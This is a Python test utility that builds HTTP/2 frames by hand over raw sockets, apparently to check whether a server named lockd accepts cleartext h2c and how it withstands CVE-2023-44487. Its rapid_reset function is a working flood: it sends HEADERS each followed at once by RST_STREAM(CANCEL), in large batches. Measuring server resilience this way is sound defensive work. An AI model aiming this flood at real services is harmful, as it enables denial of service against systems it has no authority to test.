"""A minimal HTTP/2 client over raw sockets (standard library only), for the
tests and measurements of issue 12: whether lockd accepts cleartext HTTP/2
(prior-knowledge preface and `Upgrade: h2c`) and how it copes with a client
that opens and resets streams as fast as it can (CVE-2023-44487, "Rapid
Reset").

It speaks just enough of RFC 9113 for that: frames are built by hand, request
headers use HPACK's static table and literals without Huffman coding or
indexing (RFC 7541 6.1, 6.2.2), and responses are not decoded beyond their
frame types (":status" is read when it is a static-table entry).
"""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
CANCEL = 0x8

# HPACK static table (RFC 7541 appendix A) entries of ":status".
_STATUS_BY_INDEX = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags,
                                                             stream_id & 0x7FFFFFFF) + payload


def _literal(name_index, value):
    """Literal header field without indexing, indexed name (RFC 7541 6.2.2)."""
    v = value.encode() if isinstance(value, str) else value
    assert name_index < 15 and len(v) < 127
    return bytes([name_index, len(v)]) + v


def request_block(method="GET", path="/healthz", authority="localhost"):
    """An HPACK header block for a request (static-table names only)."""
    out = bytearray()
    out += {"GET": b"\x82", "POST": b"\x83"}.get(method) or _literal(2, method)
    out += b"\x84" if path == "/" else _literal(4, path)
    out += b"\x86"  # :scheme http
    out += _literal(1, authority)
    return bytes(out)


def headers_frame(stream_id, method="GET", path="/healthz", end_stream=True):
    flags = END_HEADERS | (END_STREAM if end_stream else 0)
    return frame(HEADERS, flags, stream_id, request_block(method, path))


def rst_frame(stream_id, code=CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


class FrameReader:
    """Splits bytes read from a socket into (type, flags, stream, payload)."""

    def __init__(self):
        self.buf = bytearray()

    def feed(self, data):
        self.buf += data
        out = []
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                break
            ftype, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            out.append((ftype, flags, sid, bytes(self.buf[9:9 + length])))
            del self.buf[:9 + length]
        return out


def status_of(header_block):
    """":status" of a response header block when the server sent it as an
    indexed static entry (h2o does for 200/204/206/304/400/404/500), else
    None."""
    if header_block and header_block[0] & 0x80:
        return _STATUS_BY_INDEX.get(header_block[0] & 0x7F)
    return None


def prior_knowledge_get(host, port, path="/healthz", timeout=5.0):
    """Sends the HTTP/2 preface and one GET without any HTTP/1 upgrade.
    Returns ("h2", frames) if the server answered with HTTP/2 frames,
    ("http1", first bytes) if it answered HTTP/1, ("closed", b"") if it
    closed without a word."""
    with socket.create_connection((host, port), timeout=timeout) as s:
        s.sendall(PREFACE + frame(SETTINGS, 0, 0) + headers_frame(1, "GET", path))
        return _classify(s, timeout)


def upgrade_get(host, port, path="/healthz", timeout=5.0):
    """An HTTP/1.1 GET with `Upgrade: h2c` (RFC 7540 3.2). Returns
    ("h2", first bytes) if the server switched protocols (101), else
    ("http1", first bytes) or ("closed", b"")."""
    req = ("GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\n"
           "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" % path).encode()
    with socket.create_connection((host, port), timeout=timeout) as s:
        s.sendall(req)
        data = _read_some(s, timeout)
        if not data:
            return ("closed", b"")
        if data.startswith(b"HTTP/1.1 101"):
            return ("h2", data)
        return ("http1", data)


def _read_some(s, timeout, want=1):
    deadline = time.monotonic() + timeout
    data = b""
    while len(data) < want and time.monotonic() < deadline:
        s.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            break
        except ConnectionResetError:
            break
        if not chunk:
            break
        data += chunk
    return data


def _classify(s, timeout):
    data = _read_some(s, timeout, want=9)
    if not data:
        return ("closed", b"")
    if data.startswith(b"HTTP/"):
        return ("http1", data)
    return ("h2", FrameReader().feed(data))


def rapid_reset(host, port, seconds, path="/healthz", batch=512, stop=None):
    """Opens one cleartext HTTP/2 connection (prior knowledge) and, for
    `seconds`, sends HEADERS immediately followed by RST_STREAM(CANCEL) on
    ever new streams, `batch` pairs per write; reads and discards what the
    server sends. Returns a dict: streams sent, seconds, whether the server
    closed the connection (and after how many streams), GOAWAY error code
    if one came."""
    s = socket.create_connection((host, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    s.setblocking(False)
    reader = FrameReader()
    block = request_block("GET", path)
    hdr_prefix = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS | END_STREAM])
    rst_prefix = b"\x00\x00\x04" + bytes([RST_STREAM, 0])
    rst_payload = struct.pack(">I", CANCEL)
    sid = 1
    sent = 0
    goaway = None
    closed_after = None
    start = time.monotonic()
    end = start + seconds
    pending = b""
    try:
        while time.monotonic() < end and (stop is None or not stop.is_set()):
            if not pending:
                parts = []
                for _ in range(batch):
                    idb = struct.pack(">I", sid)
                    parts.append(hdr_prefix + idb + block + rst_prefix + idb + rst_payload)
                    sid += 2
                pending = b"".join(parts)
                sent += batch
            try:
                n = s.send(pending)
                pending = pending[n:]
            except BlockingIOError:
                pass
            except (BrokenPipeError, ConnectionResetError):
                closed_after = sent
                break
            try:
                while True:
                    chunk = s.recv(1 << 20)
                    if not chunk:
                        closed_after = sent
                        break
                    for ftype, _flags, _sid, payload in reader.feed(chunk):
                        if ftype == GOAWAY and len(payload) >= 8:
                            goaway = struct.unpack(">I", payload[4:8])[0]
                if closed_after is not None:
                    break
            except BlockingIOError:
                pass
            except ConnectionResetError:
                closed_after = sent
                break
            if sid > 0x7FFFFF00:
                break
    finally:
        s.close()
    return {"streams": sent, "seconds": time.monotonic() - start,
            "closed_after": closed_after, "goaway": goaway}
